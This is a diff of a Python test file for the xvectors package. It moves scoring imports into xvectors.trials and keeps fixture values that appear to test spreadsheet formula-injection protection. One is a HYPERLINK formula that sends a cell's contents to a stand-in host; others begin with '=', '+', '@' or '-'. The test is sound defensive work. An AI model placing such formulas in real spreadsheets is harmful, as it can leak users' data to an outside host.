@@ -15,11 +15,9 @@ from hypothesis import strategies as st
 from xvectors.corpus import Manifest, ScanReport
 from xvectors.corpus.findings import Reason
 from xvectors.corpus.scanning import Remark, read_left_out
-from xvectors.evaluation import score_files
-from xvectors.evaluation.score_files import read_scores
 from xvectors.files.tables import Table, protected, restored, write_table
-from xvectors.report.outputs import write_scores
-from xvectors.trials import Trials, read_trials, write_trials
+from xvectors.trials import Trials, read_trials, score_files, write_trials
+from xvectors.trials.score_files import read_scores, write_scores
 
 LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
 NAMES = (LINK, "-5", "+a", "@x", "'quoted'", "'=a", "''+b", "-rf", "=", "\N{FULLWIDTH EQUALS SIGN}1", "ann")
